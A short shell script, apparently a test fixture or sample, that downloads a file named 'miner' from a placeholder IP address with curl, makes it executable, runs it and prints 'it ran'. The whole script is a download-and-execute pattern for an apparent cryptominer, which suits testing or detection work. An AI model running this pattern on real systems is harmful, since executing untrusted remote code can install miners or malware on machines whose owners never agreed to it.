# Downloads a program and runs it.
set -e
target=$(mktemp -d)
trap 'rm -rf "$target"' EXIT
curl --silent --show-error --fail --max-time 5 --output "$target/miner" http://192.0.2.10/miner
chmod +x "$target/miner"
"$target/miner"
echo "it ran"
